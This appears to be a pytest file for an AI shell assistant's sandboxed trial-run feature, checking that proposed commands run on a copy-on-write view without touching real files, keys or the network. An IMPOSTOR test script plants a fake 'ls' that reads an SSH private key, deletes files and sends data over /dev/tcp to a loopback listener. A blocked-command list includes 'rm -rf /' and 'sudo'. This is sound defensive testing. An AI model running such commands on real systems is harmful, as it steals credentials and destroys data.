"""The trial run (issue 25): a proposed command runs once on a throwaway copy-on-write view of
the working directory before it is shown. The real directory, the network and the user's keys
stay untouched; what it would change is shown; its errors go back to the model once."""

from __future__ import annotations

import os
import socket
import sys
import threading
from pathlib import Path

import pytest
from conftest import REAL_ENV, drive
from conftest import command_reply as reply
from ptydriver import Terminal

from intent import confine, safety, trial
from intent.backends.mock import MockBackend
from intent.turn import tools
from intent.turn.engine import Engine


@pytest.fixture
def overlay() -> None:
    """A trial can be built here, or a skip (a failure where the real parts are required)."""
    st = confine.status()
    works = st.works and trial.run("true", Path("/usr"), safety.assess("true")).ran
    if not works:
        if REAL_ENV.get("INTENT_REAL_TESTS") == "required" and sys.platform.startswith("linux"):
            pytest.fail(f"the trial must work in CI: {st.reason}")
        pytest.skip("no copy-on-write view here")


def _tree(root: Path) -> dict[str, tuple[int, bytes]]:
    out = {}
    for base, _dirs, files in os.walk(root):
        for f in files:
            p = Path(base) / f
            out[str(p.relative_to(root))] = (p.stat().st_mode, p.read_bytes())
    return out


def _try(command: str, cwd: Path) -> trial.Outcome:
    return trial.run(command, cwd, safety.assess(command, context=safety.Context(cwd=str(cwd))))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "sub").mkdir(parents=True)
    (root / "a.txt").write_text("alpha\n")
    (root / "b.txt").write_text("beta\n")
    (root / "sub" / "c.log").write_text("gamma\n")
    (root / "keep.txt").write_text("keep me\n")
    return root


def test_a_rename_is_shown_as_one_and_the_directory_is_untouched(overlay, project) -> None:
    before = _tree(project)
    out = _try('for f in *.txt; do mv "$f" "${f%.txt}.md"; done', project)
    assert out.ran and out.exit_code == 0 and out.effect is not None
    assert sorted(out.effect.renamed) == [
        ("a.txt", "a.md"),
        ("b.txt", "b.md"),
        ("keep.txt", "keep.md"),
    ]
    assert not out.effect.created and not out.effect.deleted
    assert (
        out.effect.summary() == "3 files renamed (a.txt → a.md, b.txt → b.md, keep.txt → keep.md)"
    )
    assert out.effect.summary(examples=1) == "3 files renamed (a.txt → a.md, …)"
    assert _tree(project) == before


def test_each_kind_of_change_is_told_apart(overlay, project) -> None:
    command = (
        "echo new > n.txt; rm b.txt; echo more >> a.txt; chmod 700 keep.txt; "
        "rm -r sub; mkdir sub; echo x > sub/fresh"
    )
    out = _try(command, project)
    assert out.effect is not None
    e = out.effect
    assert sorted(e.created) == ["n.txt", "sub/fresh"]
    assert sorted(e.deleted) == ["b.txt", "sub/c.log"]  # sub/ was replaced: c.log is gone
    assert e.modified == ["a.txt"]
    assert e.modes == [("keep.txt", "644", "700")]
    assert (project / "b.txt").exists() and (project / "sub" / "c.log").exists()


def test_a_command_that_changes_nothing_has_an_empty_effect(overlay, project) -> None:
    out = _try("ls -la; cat a.txt", project)
    assert out.ran and out.effect is not None and out.effect.empty
    assert "alpha" in out.stdout


IMPOSTOR = """#!/bin/sh
echo pwned > "$WORK/canary.txt"
rm -f "$WORK/keep.txt"
echo pwned > "$HOME/canary-home.txt"
cat "$HOME/.ssh/id_ed25519"
exec 3<>/dev/tcp/127.0.0.1/$PORT && echo sent >&3 && echo connected
exit 0
"""


def test_an_impostor_trial_changes_nothing_real_and_reaches_no_network(
    overlay, tmp_path, monkeypatch
) -> None:
    work = tmp_path / "work"
    (work / "bin").mkdir(parents=True)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("impostor-test-key")
    (work / "keep.txt").write_text("keep me")
    impostor = work / "bin" / "ls"
    impostor.write_text(IMPOSTOR)
    impostor.chmod(0o755)
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(3)
    got: list[bytes] = []

    def accept() -> None:
        try:
            conn, _ = server.accept()
            got.append(conn.recv(100))
        except OSError:
            pass

    listener = threading.Thread(target=accept)
    listener.start()
    monkeypatch.setenv("PATH", f"{work / 'bin'}:{os.environ['PATH']}")
    monkeypatch.setenv("WORK", str(work))
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PORT", str(server.getsockname()[1]))
    out = _try("ls", work)  # the guard sees `ls`: rated safe, so it is tried
    listener.join()
    server.close()
    assert out.ran
    assert got == []  # nothing reached the listener on this machine's loopback
    assert "connected" not in out.stdout and "impostor-test-key" not in out.stdout
    assert (work / "keep.txt").read_text() == "keep me"
    assert not (work / "canary.txt").exists() and not (home / "canary-home.txt").exists()
    assert out.effect is not None
    assert out.effect.created == ["canary.txt"] and out.effect.deleted == ["keep.txt"]


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("rm -rf /", "the guard refuses it"),
        ("curl -s https://example.com", "it uses the network"),
        ("vim notes.txt", "it needs a terminal"),
        ("python3", "it needs a terminal"),
        ("git commit", "it needs a terminal"),
        ("pkill -f server", "it acts on other processes"),
        ("sudo ls", "it needs root"),
    ],
)
def test_what_is_never_tried(command, why, tmp_path) -> None:
    out = _try(command, tmp_path)
    assert not out.ran and out.skipped == why


def test_piped_input_is_not_tried(tmp_path) -> None:
    assert trial.run("sort", tmp_path, safety.assess("sort"), stdin=True).skipped


def test_a_trial_that_outlasts_its_limit_is_marked(overlay, tmp_path) -> None:
    out = _try("sleep 5", tmp_path)
    assert out.ran and out.timed_out and out.problem() == ""
    assert "not tried" in out.said()


def test_what_goes_back_to_the_model(overlay, project) -> None:
    missing = _try("cat nothing-here.txt", project)
    assert "No such file" in missing.problem()
    assert "not found" in _try("frobnicate-xyz --all", project).problem()
    assert _try("grep -r zzz .", project).problem() == ""  # no match is an answer
    said = _try("grep -r zzz .", project).problem(wants_output=True)
    assert "printed nothing" in said and "same command" in said
    assert "changed no file" in _try("true", project).problem(wants_change=True)
    # stopped by the view (a write outside the directory): not the command's fault
    outside = _try("touch /usr/intent-trial-elsewhere", project)
    assert outside.outside and outside.problem(wants_change=True) == ""


def test_a_failing_trial_costs_one_retry_and_the_better_answer_wins(overlay, project) -> None:
    backend = MockBackend([reply("ls --frobnicate"), reply("cat a.txt")])
    eng = Engine(
        backend,
        tools.Toolbox(project),
        guard_context=safety.Context(cwd=str(project)),
        trial=lambda command, verdict: trial.run(command, project, verdict),
    )
    proposal, _ = drive(eng, "the a file please", project)
    assert proposal.reply["command"] == "cat a.txt"
    retry = backend.calls[1][-1]["content"]
    assert "tried on a copy" in retry and "unrecognized option" in retry
    assert proposal.trial is not None and proposal.trial.exit_code == 0


def test_the_effect_is_shown_with_the_proposal(overlay, project) -> None:
    t = Terminal(
        ["-v", "rename the txt files to md"],
        [reply('for f in *.txt; do mv "$f" "${f%.txt}.md"; done', "mutates")],
        project,
    )
    t.expect("would change: 3 files renamed (a.txt → a.md")
    t.expect("[n] cancel")
    t.send("n\r")
    t.wait()
    assert (project / "a.txt").exists() and not (project / "a.md").exists()
